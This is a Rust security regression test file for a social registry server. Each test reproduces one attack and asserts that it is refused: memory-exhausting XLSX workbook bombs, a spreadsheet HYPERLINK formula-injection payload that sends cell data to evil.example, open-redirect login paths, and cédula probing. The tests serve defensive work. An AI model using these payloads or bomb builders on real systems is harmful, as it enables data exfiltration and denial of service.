//! The attacks of the adversarial review (issue 35), each reproduced against the real server
//! over HTTP and refused: one test per attack, named after it, readable top to bottom.
//!
//! Decompression bombs: a token that may send counter-referrals posts workbooks built to fill
//! the server's memory — five million cells naming one shared string in a file of kilobytes,
//! five million distinct shared strings, a sheet of a million honest-looking rows. Each is
//! refused with a Spanish message naming the file and the limit, and the server's resident
//! memory (its peak included, read from `/proc`) stays within a bound while it reads them.
//! The workbooks are built by `vamos_ingest::fuzzing`; the ingest crate's `bombs` tests try
//! every limit on its own.
//!
//! CSV formula injection: a name, a rejected value or an audit purpose such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")` reaches the CSV files other people
//! open in a spreadsheet (the referral list, the rejection report, the audit export). Each is
//! written with an apostrophe in front, so the spreadsheet shows it as text; numbers stay numbers
//! (`vamos_domain::csv_safe` tries every dangerous first character on its own).
//!
//! The web's edges (item 12, and item 8's open redirect): a return path after login that a
//! browser would follow to another site, HSTS that depended on a flag, readiness and metrics
//! (the registry's size) open to anyone, a health check naming the version, request-parsing
//! errors in English plain text, and a DCI expression too large for the database's SQL.
//!
//! Then, each in a section of its own further down: cédula probing with counter-referrals
//! (item 3), the data-sharing agreement deciding filters, sort keys and sensitive attributes
//! (items 4 and 5), length limits and exports that account for every record (items 9 and 10),
//! accounts (item 11) and public figures only from published measurements (item 7). The threat
//! model that ties them together: `docs/security.md`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use serde_json::Value;
use std::io::Write;
use std::path::Path;

mod common;
use common::*;

/// A field of the server's `/proc/<pid>/status`, in kB (`VmRSS`, `VmHWM`).
fn memory_kb(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| {
            l.strip_prefix(field)?
                .trim_start_matches(':')
                .split_whitespace()
                .next()
        })
        .unwrap()
        .parse()
        .unwrap()
}

/// Posts `body` to `path` with `token`, as `content_type`: the status and the JSON answer.
fn post_as(s: &Server, token: &str, path: &str, content_type: &str, body: &[u8]) -> (u16, Value) {
    let resp = agent()
        .post(format!("{}{path}", s.base))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", content_type)
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// Posts a file to `/api/counter-referrals/file` as a workbook.
fn post_workbook(s: &Server, token: &str, body: &[u8]) -> (u16, Value) {
    post_as(
        s,
        token,
        "/api/counter-referrals/file",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        body,
    )
}

/// A registry with an MSPBS operator of Villeta, and its token that may send counter-referrals.
fn operator_token(url: &str, d: &Path) -> String {
    init_db(url, d);
    let o = vamos(
        &[
            "user",
            "create",
            "--db",
            url,
            "hospital",
            "--role",
            "operador",
            "--institution",
            "MSPBS",
            "--territories",
            "1116",
        ],
        d,
        &[("VAMOS_PASSWORD", PW)],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = vamos(
        &[
            "token",
            "create",
            "--db",
            url,
            "--user",
            "hospital",
            "--name",
            "his",
            "--days",
            "1",
            "--scopes",
            "contrarreferencias:enviar",
        ],
        d,
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// The header row of a counter-referral sheet, as inline strings.
const HEADER: &[u8] = br#"<row r="1"><c r="A1" t="inlineStr"><is><t>id_evento</t></is></c><c r="B1" t="inlineStr"><is><t>cedula</t></is></c><c r="C1" t="inlineStr"><is><t>servicio</t></is></c><c r="D1" t="inlineStr"><is><t>fecha_entrega</t></is></c></row>"#;

/// The three bombs, each with what its refusal must say.
fn bombs(dir: &Path) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    use vamos_ingest::fuzzing::{write_xlsx, PartWriter};
    let build = |name: &str, sheet: PartWriter<'_>, shared: PartWriter<'_>| {
        let path = dir.join(name);
        write_xlsx(&path, sheet, Some(shared)).unwrap();
        std::fs::read(path).unwrap()
    };
    let one_string = build(
        "una_cadena.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            let row = br#"<row><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>"#;
            for _ in 0..1_000_000 {
                b.write_all(row)?;
            }
            b.flush()
        },
        &mut |w| w.write_all(b"<si><t>1234567</t></si>"),
    );
    let strings = build("cadenas.xlsx", &mut |w| w.write_all(HEADER), &mut |w| {
        let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
        for i in 0..5_000_000u32 {
            write!(b, "<si><t>{i:07}</t></si>")?;
        }
        b.flush()
    });
    let rows = build(
        "filas.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            for r in 2..=1_000_001u32 {
                write!(
                    b,
                    r#"<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="s"><v>0</v></c><c r="C{r}" t="s"><v>1</v></c><c r="D{r}" t="s"><v>2</v></c></row>"#
                )?;
            }
            b.flush()
        },
        &mut |w| {
            w.write_all(b"<si><t>1234567</t></si><si><t>control_prenatal</t></si><si><t>2026-11-20</t></si>")
        },
    );
    vec![
        (
            "cinco millones de celdas de una cadena",
            one_string,
            "más de 100 a 1",
        ),
        (
            "cinco millones de cadenas",
            strings,
            "más de 2000000 textos distintos",
        ),
        ("un millón de filas", rows, "más de 200001 filas"),
    ]
}

#[test]
fn a_workbook_bomb_posted_as_counter_referrals_is_refused_within_bounded_memory() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let token = operator_token(&db.url, d.path());
    let bombs = bombs(d.path());
    // What is tested is the refusal and the memory, not the request timeout: a debug build on a
    // loaded machine reads a million rows slowly.
    let s = common::start_with(&db.url, d.path(), &[("VAMOS_REQUEST_TIMEOUT_SECS", "600")]);
    let pid = s.child.id();
    let before = memory_kb(pid, "VmRSS");
    for (what, body, reason) in &bombs {
        let (status, v) = post_workbook(&s, &token, body);
        let message = v["error"]["message"].as_str().unwrap_or_default();
        assert_eq!(status, 400, "{what}: {v}");
        assert!(
            message.contains("«contrarreferencias.xlsx") && message.contains(reason),
            "{what}: {message}"
        );
        let (now, peak) = (memory_kb(pid, "VmRSS"), memory_kb(pid, "VmHWM"));
        eprintln!(
            "{what} ({} bytes): resident {before} kB before, {now} kB after, peak {peak} kB",
            body.len()
        );
        assert!(
            peak.saturating_sub(before) < 300 * 1024,
            "{what}: the server's memory grew from {before} kB to a peak of {peak} kB"
        );
    }
    // The server still answers.
    let (status, _, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!(status, 200);
}

/// A cell that a spreadsheet runs as a formula, sending the neighbouring cell away.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;

/// `cell` as the CSV writer quotes it (the formula's quotes doubled), with the apostrophe.
fn neutralised(cell: &str) -> String {
    format!("\"'{}\"", cell.replace('"', "\"\""))
}

#[test]
fn a_formula_in_a_name_is_neutralised_in_the_referral_csv() {
    let row = serde_json::json!({
        "id": 7,
        "priority": -5,
        "district_code": "1116",
        "person": {"given_names": HYPERLINK, "family_names": "@SUM(1+1)"},
    });
    let csv = vamos_app::referrals::report_csv(&[row]).unwrap();
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'@SUM(1+1)"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
    // Numbers stay numbers, negative ones included.
    assert!(csv.contains("\n7,,-5,"), "{csv}");
}

#[test]
fn a_formula_in_a_purpose_is_neutralised_in_the_audit_export() {
    let row = vamos_store::audit::AuditRow {
        id: 1,
        at: "2025-01-01T00:00:00Z".into(),
        actor: "ana".into(),
        role: Some("operador".into()),
        institution: Some("MSPBS".into()),
        action: "leer persona".into(),
        subject_kind: "persona".into(),
        subject_id: "-12".into(),
        purpose: HYPERLINK.into(),
        request_id: None,
        outcome: "+ok".into(),
        prev_hash: None,
        hash: None,
    };
    let csv = vamos_app::audit::audit_csv(&[row]).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains("\"'+ok\""), "{csv}");
    assert!(csv.contains("\"-12\""), "{csv}");
}

#[test]
fn a_formula_in_a_rejected_value_is_neutralised_in_the_rejection_report() {
    let d = tempfile::tempdir().unwrap();
    let path = d.path().join("rechazos.csv");
    let mut log = vamos_ingest::report::RejectionLog::new(Some(&path)).unwrap();
    log.reject_row(vec![vamos_ingest::report::Rejection {
        file: "hogares.csv".into(),
        row: 2,
        column: "cedula".into(),
        value: HYPERLINK.into(),
        reason: "-cédula inválida".into(),
        key: "\t=1+2".into(),
    }])
    .unwrap();
    log.finish().unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'-cédula inválida,"), "{csv}");
    assert!(csv.contains(",'\t=1+2\n"), "{csv}");
    assert!(csv.contains("hogares.csv,2,cedula,"), "{csv}");
}

/// An agent that reports redirects instead of following them.
fn no_redirects() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .build()
        .into()
}

/// The value of the hidden field `name` of a form.
fn hidden(body: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let i = body
        .find(&marker)
        .unwrap_or_else(|| panic!("no {name} in {body}"))
        + marker.len();
    body[i..]
        .split('"')
        .next()
        .unwrap()
        .replace("&#x2f;", "/")
        .replace("&amp;", "&")
}

#[test]
fn a_login_return_path_cannot_leave_the_site() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let a = no_redirects();
    for (query, posted) in [
        ("/%09/evil.example/x", "/\t/evil.example/x"),
        ("//evil.example/x", "//evil.example/x"),
        ("/%5Cevil.example/x", "/\\evil.example/x"),
        ("https://evil.example/", "https://evil.example/"),
        ("/%0A/evil.example", "/\n/evil.example"),
    ] {
        let resp = a
            .get(format!("{}/ingresar?volver={query}", s.base))
            .call()
            .unwrap();
        let cookie = resp
            .headers()
            .get_all("set-cookie")
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|c| c.starts_with("vamos_ingreso="))
            .and_then(|c| c.split(';').next())
            .unwrap()
            .to_string();
        let page = resp.into_body().read_to_string().unwrap();
        assert_eq!(hidden(&page, "volver"), "/", "{query}");
        let resp = a
            .post(format!("{}/ingresar", s.base))
            .header("cookie", &cookie)
            .send_form([
                ("usuario", "admin"),
                ("clave", PW),
                ("token", hidden(&page, "token").as_str()),
                ("volver", posted),
            ])
            .unwrap();
        assert_eq!(resp.status().as_u16(), 303, "{posted:?}");
        assert_eq!(resp.headers()["location"], "/", "{posted:?}");
    }
}

#[test]
fn hsts_is_sent_when_the_public_url_is_https() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let hsts = |public_url: &str| {
        let s = start_with(&db.url, d.path(), &[("VAMOS_PUBLIC_URL", public_url)]);
        let resp = agent()
            .get(format!("{}/api/health", s.base))
            .call()
            .unwrap();
        resp.headers()
            .get("strict-transport-security")
            .map(|v| v.to_str().unwrap().to_string())
    };
    assert_eq!(
        hsts("https://vamos.gov.py").as_deref(),
        Some("max-age=31536000; includeSubDomains")
    );
    assert_eq!(hsts("http://127.0.0.1:8080"), None);
}

#[test]
fn metrics_and_readiness_need_a_monitoring_token() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let other = operator_token(&db.url, d.path());
    let monitor = monitoring(&db.url, d.path(), "prometheus");
    let s = start(&db.url, d.path());
    let operator = Who {
        bearer: Some(other),
        ..Who::default()
    };
    for path in ["/api/ready", "/metrics"] {
        let (st, v, _) = call(&s, &Who::default(), "get", path, None);
        assert_eq!(st, 401, "{path}: {v}");
        assert_eq!(v["error"]["code"], "no_autenticado", "{path}");
        let (st, v, _) = call(&s, &operator, "get", path, None);
        assert_eq!(st, 403, "{path}: {v}");
        let (st, v, _) = call(&s, &monitor, "get", path, None);
        assert_eq!(st, 200, "{path}: {v}");
    }
    let (_, ready, _) = call(&s, &monitor, "get", "/api/ready", None);
    assert_eq!(ready["version"], env!("CARGO_PKG_VERSION"), "{ready}");
}

#[test]
fn health_does_not_reveal_the_version() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let (st, v, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!((st, v), (200, serde_json::json!({"status": "ok"})));
}

/// Posts `body` to `path` with `content_type`, answering status, content type and body.
fn post_raw(s: &Server, path: &str, content_type: &str, body: &str) -> (u16, String, Value) {
    let resp = agent()
        .post(format!("{}{path}", s.base))
        .header("content-type", content_type)
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let ct = resp.headers()["content-type"].to_str().unwrap().to_string();
    let text = resp.into_body().read_to_string().unwrap();
    (
        status,
        ct,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[test]
fn a_malformed_json_body_gets_the_spanish_json_error() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    for (content_type, body, status, message) in [
        (
            "application/json",
            r#"{"username": "admin""#,
            400,
            "el cuerpo no es JSON válido: el JSON termina antes de tiempo (línea 1, columna 20)",
        ),
        (
            "application/json",
            r#"{"username": "admin"}"#,
            422,
            "el cuerpo no tiene la forma esperada: falta el campo «password» (línea 1, columna 21)",
        ),
        (
            "text/plain",
            r#"{"username": "admin", "password": "x"}"#,
            415,
            "el cuerpo debe ser JSON: envíe la cabecera «Content-Type: application/json»",
        ),
    ] {
        let (st, ct, v) = post_raw(&s, "/api/session", content_type, body);
        assert_eq!(st, status, "{body}: {v}");
        assert_eq!(ct, "application/json", "{body}");
        assert_eq!(v["error"]["code"], "solicitud_invalida", "{body}");
        assert_eq!(v["error"]["message"], message, "{body}");
    }
    let admin = login(&s, "admin", PW);
    let (st, v, _) = call(&s, &admin, "get", "/api/persons?limit=muchos", None);
    assert_eq!(st, 400, "{v}");
    assert_eq!(
        v["error"]["message"],
        "parámetros de consulta inválidos: el campo «limit» tiene un valor inválido"
    );
    let (st, v, _) = call(&s, &admin, "get", "/api/persons/uno", None);
    assert_eq!(
        (st, &v["error"]["message"]),
        (400, &serde_json::json!("la ruta tiene un valor inválido"))
    );
}

#[test]
fn an_oversized_dci_expression_gets_a_dci_error() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let url = db.url.as_str();
    init_db(url, d.path());
    let run = |args: &[&str]| {
        let o = vamos(args, d.path(), &[("VAMOS_PASSWORD", PW)]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    run(&["user", "create", "--db", url, "his", "--role", "analista"]);
    let token = run(&[
        "token", "create", "--db", url, "--user", "his", "--name", "HIS", "--scopes", "dci",
    ]);
    run(&[
        "dci",
        "sender",
        "add",
        "--db",
        url,
        "--id",
        "his.mspbs",
        "--user",
        "his",
    ]);
    let s = start(url, d.path());
    let his = Who {
        bearer: Some(token),
        ..Who::default()
    };
    // Five thousand alternatives (about 100 KB): more than the SQL of a search may hold.
    let search = |n: usize, id: &str| {
        let any: Vec<Value> = (0..n).map(|i| serde_json::json!({"UIN": i})).collect();
        serde_json::json!({
            "header": {"version": "1.0.0", "message_id": id, "message_ts": "2026-11-23T10:00:00-03:00",
                "action": "search", "sender_id": "his.mspbs", "receiver_id": "siis.gov.py",
                "total_count": 1, "is_msg_encrypted": false},
            "message": {"transaction_id": "t-1", "search_request": [{
                "reference_id": "r1", "timestamp": "2026-11-23T10:00:00-03:00",
                "search_criteria": {"reg_type": "ns:org:RegistryType:Social",
                    "query_type": "expression", "query": {"$or": any},
                    "consent": {"purpose": {"text": "prueba"}}}}]}
        })
    };
    let (st, v, _) = call(
        &s,
        &his,
        "post",
        "/dci/registry/sync/search",
        Some(search(5000, "m-1")),
    );
    assert_eq!(st, 200, "{v}");
    let item = &v["message"]["search_response"][0];
    assert_eq!(item["status"], "rjct", "{item}");
    assert_eq!(item["status_reason_code"], "rjct.filter.invalid", "{item}");
    assert!(
        item["status_reason_message"]
            .as_str()
            .unwrap()
            .contains("consulta demasiado grande"),
        "{item}"
    );
    // The largest admitted is answered.
    let (st, v, _) = call(
        &s,
        &his,
        "post",
        "/dci/registry/sync/search",
        Some(search(500, "m-2")),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["message"]["search_response"][0]["status"], "succ", "{v}");
}

// Cédula probing (item 3): an operator posts counter-referrals naming cédulas and SIIS numbers
// it has no patient for, to learn who is registered elsewhere in the country. A person outside
// its scope is answered exactly as a person registered nowhere (no id, same words), and the
// distinct persons not found in scope are limited per account and hour: past the limit the
// batch is refused whole and the refusal is audited with what was tried.

/// The pilot registry with an MSPBS operator of Villeta (1116) and its token; returns the
/// token, a registered cédula and SIIS number in Villeta and outside it.
fn probing_registry(url: &str, d: &Path) -> (String, [(i64, i64); 2]) {
    synth_pilots(d, "300", "11");
    let token = operator_token(url, d);
    let o = vamos(
        &[
            "import",
            "fips",
            "--db",
            url,
            "datos",
            "--date",
            "2026-11-23",
        ],
        d,
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let mut store = vamos_store::open(url).unwrap();
    let mut one = |inside: bool| {
        let op = if inside { "=" } else { "<>" };
        let sql = format!(
            "SELECT p.national_id, p.id FROM persons p JOIN households h ON h.id = p.household_id \
             WHERE p.national_id IS NOT NULL AND h.district_code {op} 1116 ORDER BY p.id LIMIT 1"
        );
        let rows = vamos_store::testing::RawSql::query(&mut store.db(), &sql, &[]).unwrap();
        (rows[0].int(0).unwrap(), rows[0].int(1).unwrap())
    };
    let places = [one(true), one(false)];
    (token, places)
}

fn post_batch(s: &Server, token: &str, events: Value) -> (u16, Value) {
    let body = serde_json::json!({ "events": events }).to_string();
    post_as(
        s,
        token,
        "/api/counter-referrals/batch",
        "application/json",
        body.as_bytes(),
    )
}

fn event(id: &str, key: &str, value: i64) -> Value {
    serde_json::json!({"event_id": id, key: value.to_string(), "service": "control_prenatal", "delivered_on": "2026-11-20"})
}

#[test]
fn an_operator_cannot_probe_cedulas_outside_scope() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (token, [_inside, (outside_ced, outside_id)]) = probing_registry(&db.url, d.path());
        let unknown_ced = 99_999_001;
        let unknown_id = 999_999_001;
        let s = common::start(&db.url, d.path());
        let (status, v) = post_batch(
            &s,
            &token,
            serde_json::json!([
                event("P-1", "cedula", outside_ced),
                event("P-2", "cedula", unknown_ced),
                event("P-3", "person_id", outside_id),
                event("P-4", "person_id", unknown_id),
            ]),
        );
        assert_eq!(status, 200, "{}: {v}", db.label);
        let errors = v["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 4, "{}: {v}", db.label);
        let shape = |e: &Value| (e["column"].clone(), e["reason"].clone());
        // Out of scope and unknown: the same column and reason, each with the value sent.
        assert_eq!(shape(&errors[0]), shape(&errors[1]), "{}: {v}", db.label);
        assert_eq!(shape(&errors[2]), shape(&errors[3]), "{}: {v}", db.label);
        assert_eq!(errors[0]["value"], outside_ced.to_string(), "{}", db.label);
        assert_eq!(errors[2]["value"], outside_id.to_string(), "{}", db.label);
        // Nothing in the answer names the person found outside the scope.
        let text = v.to_string();
        assert!(
            v["results"]
                .as_array()
                .unwrap()
                .iter()
                .all(|r| r["counter_referral_id"].is_null()
                    && r["referral_id"].is_null()
                    && r["status"] == "rechazado"),
            "{}: {v}",
            db.label
        );
        assert!(
            !text.contains("fuera de su ámbito"),
            "{}: the answer tells out of scope apart: {v}",
            db.label
        );
    }
}

#[test]
fn a_known_number_cannot_test_whose_a_cedula_is() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (token, [(_, inside_id), (outside_ced, _)]) = probing_registry(&db.url, d.path());
        let s = common::start(&db.url, d.path());
        // The operator's own patient, named by number, with a cédula that is someone else's
        // (outside the scope) or nobody's: the same answer, nothing stored.
        let with = |event_id: &str, cedula: i64| serde_json::json!({"event_id": event_id, "person_id": inside_id.to_string(), "cedula": cedula.to_string(), "service": "control_prenatal", "delivered_on": "2026-11-20"});
        let (status, v) = post_batch(
            &s,
            &token,
            serde_json::json!([with("K-1", outside_ced), with("K-2", 99_999_001)]),
        );
        assert_eq!(status, 200, "{}: {v}", db.label);
        assert_eq!(v["accepted"], 0, "{}: {v}", db.label);
        let errors = v["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 2, "{}: {v}", db.label);
        let shape = |e: &Value| (e["column"].clone(), e["reason"].clone());
        assert_eq!(shape(&errors[0]), shape(&errors[1]), "{}: {v}", db.label);
    }
}

#[test]
fn probing_with_counter_referrals_is_limited_per_account_and_audited() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (token, [(inside_ced, _), _]) = probing_registry(&db.url, d.path());
        let s = common::start_with(
            &db.url,
            d.path(),
            &[("VAMOS_COUNTER_REFERRAL_MISSES_PER_HOUR", "5")],
        );
        let probe = |from: i64, n: i64| -> Value {
            (from..from + n)
                .map(|c| event(&format!("X-{c}"), "cedula", c))
                .collect()
        };
        // Three unknown cédulas: answered (each rejected), counted.
        let (status, v) = post_batch(&s, &token, probe(99_000_000, 3));
        assert_eq!(status, 200, "{}: {v}", db.label);
        // Three more would make six: the batch is refused whole, answering nothing about them.
        let (status, v) = post_batch(&s, &token, probe(99_000_100, 3));
        assert_eq!(status, 429, "{}: {v}", db.label);
        assert!(
            v.get("errors").is_none() && v.get("results").is_none(),
            "{v}"
        );
        let message = v["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("por hora"), "{}: {message}", db.label);
        // Re-sending the cédulas already counted, and the operator's own patients, still pass.
        let mut events = probe(99_000_000, 3);
        events
            .as_array_mut()
            .unwrap()
            .push(event("OK-1", "cedula", inside_ced));
        let (status, v) = post_batch(&s, &token, events);
        assert_eq!(status, 200, "{}: {v}", db.label);
        assert_eq!(v["accepted"], 1, "{}: {v}", db.label);
        // Each submission is audited with a subject, and the cédulas tried.
        let mut store = vamos_store::open(&db.url).unwrap();
        let rows = vamos_store::testing::RawSql::query(
            &mut store.db(),
            "SELECT subject_id, outcome FROM audit_log WHERE action = 'recibir contra-referencias' ORDER BY id",
            &[],
        )
        .unwrap();
        let rows: Vec<(String, String)> = rows.iter().map(|r| (r.text(0), r.text(1))).collect();
        assert_eq!(rows.len(), 3, "{}: {rows:?}", db.label);
        assert!(
            rows.iter().all(|(subject, _)| !subject.is_empty()),
            "{rows:?}"
        );
        assert!(rows[0].1.contains("cédula 99000002"), "{rows:?}");
        assert!(
            rows[1].1.starts_with("denegado") && rows[1].1.contains("cédula 99000102"),
            "{rows:?}"
        );
    }
}

#[test]
fn the_command_line_acting_as_an_operator_cannot_probe_outside_its_scope() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (_, [_, (outside_ced, _)]) = probing_registry(&db.url, d.path());
        let file = d.path().join("eventos.csv");
        std::fs::write(
            &file,
            format!("id_evento,cedula,servicio,fecha_entrega\nC-1,{outside_ced},control_prenatal,20/11/2026\nC-2,99999001,control_prenatal,20/11/2026\n"),
        )
        .unwrap();
        let o = vamos(
            &[
                "--as",
                "hospital",
                "counter-referrals",
                "import",
                "--db",
                &db.url,
                file.to_str().unwrap(),
                "--format",
                "json",
            ],
            d.path(),
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(v["accepted"], 0, "{}: {v}", db.label);
        let errors = v["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 2, "{}: {v}", db.label);
        assert_eq!(
            errors[0]["reason"], errors[1]["reason"],
            "{}: {v}",
            db.label
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The data-sharing agreement decides filters, predicates, sort keys and sensitive attributes
// (issue 35, items 4 and 5).
//
// An operator whose institution agreed to `id, given_names, family_names, district_code` used
// to find a person by cédula (`GET /api/persons?cedula=N`), and to recover a cédula, a birth
// date or a sex by binary search over the `total_count` of DCI `expression`/`predicate`
// searches, or their order by sorting. A filter, a predicate or a sort key on a field outside
// what the caller may see is now refused — the same answer whether or not anyone matches, so
// it is no oracle. And the sensitive classes (disability, poverty, pregnancy, indigenous
// identity, and the attributes behind the other populations of special attention) are fields of
// the agreement like any other: referral rows (JSON, CSV, XLSX) carry only the populations the
// agreement covers, with a priority that counts only those, and status explanations leave out
// the categories and rule texts that would tell them.
//
// One registry per backend, built once: Villeta's MSPBS with the narrow agreement above, MEC
// with the same and `birth_date`.

/// A classified registry with referrals, its server, and three callers.
struct Agreed {
    s: Server,
    /// The first administrator (sees every field).
    admin: Who,
    /// MSPBS operator of Villeta: `id, given_names, family_names, district_code`.
    narrow: Who,
    /// The same operator signed in to the web pages.
    narrow_web: Who,
    /// MEC operator of Villeta: the same and `birth_date`.
    dated: Who,
    _exit: AtExit,
    _db: vamos_store::testing::TestDb,
}

static AGREED: std::sync::LazyLock<Vec<Agreed>> = std::sync::LazyLock::new(|| {
    let dir = tempfile::tempdir().unwrap().keep();
    synth_pilots(&dir, "300", "11");
    vamos_store::testing::all_dbs()
        .into_iter()
        .enumerate()
        .map(|(i, db)| agreed(db, &dir, i == 0))
        .collect()
});

/// One backend's fixture in `d` (the first one also removes `d` when the tests end).
fn agreed(db: vamos_store::testing::TestDb, d: &Path, owns_dir: bool) -> Agreed {
    let url = db.url.clone();
    let run = |args: &[&str]| {
        let mut all = args.to_vec();
        all.extend(["--db", &url]);
        let o = vamos(&all, d, &[("VAMOS_PASSWORD", PW)]);
        assert!(
            o.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    init_db(&url, d);
    run(&["import", "fips", "datos", "--date", "2026-11-23"]);
    run(&["classify", "--as-of", "2026-11-23"]);
    run(&["referrals", "generate"]);
    let mut tokens = Vec::new();
    for (user, inst, fields) in [
        (
            "mspbs_op",
            "MSPBS",
            "id,given_names,family_names,district_code",
        ),
        (
            "mec_op",
            "MEC",
            "given_names,family_names,district_code,birth_date",
        ),
    ] {
        run(&[
            "user",
            "create",
            user,
            "--role",
            "operador",
            "--institution",
            inst,
            "--territories",
            "1116",
        ]);
        run(&[
            "agreement",
            "create",
            "--institution",
            inst,
            "--fields",
            fields,
            "--purpose",
            "referencias",
            "--from",
            "2026-01-01",
            "--to",
            "2030-12-31",
        ]);
        let token = run(&[
            "token",
            "create",
            "--user",
            user,
            "--name",
            "sistema",
            "--days",
            "1",
            "--scopes",
            "registro:leer,estatus:leer,referencias:leer,dci",
        ]);
        run(&[
            "dci",
            "sender",
            "add",
            "--id",
            &format!("{user}.sis"),
            "--user",
            user,
        ]);
        tokens.push(Who {
            bearer: Some(token),
            ..Who::default()
        });
    }
    let s = start(&url, d);
    let dirs: &[&Path] = if owns_dir { &[d] } else { &[] };
    let exit = AtExit::new(&[s.child.id()], dirs, Some(&db));
    let dated = tokens.pop().unwrap();
    let narrow = tokens.pop().unwrap();
    Agreed {
        admin: login(&s, "admin", PW),
        narrow_web: login(&s, "mspbs_op", PW),
        narrow,
        dated,
        s,
        _exit: exit,
        _db: db,
    }
}

/// Persons of Villeta as the administrator sees them (every field).
fn villeta(a: &Agreed) -> Vec<Value> {
    let (st, v, _) = call(
        &a.s,
        &a.admin,
        "get",
        "/api/persons?territory=1116&limit=200",
        None,
    );
    assert_eq!(st, 200, "{v}");
    v["items"].as_array().unwrap().clone()
}

/// A synchronous DCI search of `sender` with one request per `(query_type, query, sort)`;
/// answers each request's item.
fn dci_search(a: &Agreed, who: &Who, sender: &str, queries: &[(&str, Value, Value)]) -> Vec<Value> {
    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    let requests: Vec<Value> = queries
        .iter()
        .enumerate()
        .map(|(i, (qt, q, sort))| {
            serde_json::json!({
                "reference_id": format!("r{i}"), "timestamp": "2026-11-23T10:00:00-03:00",
                "search_criteria": {"reg_type": "ns:org:RegistryType:Social",
                    "query_type": qt, "query": q, "sort": sort,
                    "consent": {"purpose": {"text": "prueba"}}}})
        })
        .collect();
    let body = serde_json::json!({
        "header": {"version": "1.0.0", "message_id": format!("m-{n}"),
            "message_ts": "2026-11-23T10:00:00-03:00", "action": "search",
            "sender_id": sender, "receiver_id": "siis.gov.py",
            "total_count": requests.len(), "is_msg_encrypted": false},
        "message": {"transaction_id": format!("t-{n}"), "search_request": requests}
    });
    let (st, v, _) = call(&a.s, who, "post", "/dci/registry/sync/search", Some(body));
    assert_eq!(st, 200, "{v}");
    v["message"]["search_response"].as_array().unwrap().clone()
}

/// An answer without what changes from one call to the next.
fn steady(mut v: Value) -> Value {
    if let Some(o) = v.as_object_mut() {
        o.remove("timestamp");
        o.remove("reference_id");
    }
    v
}

#[test]
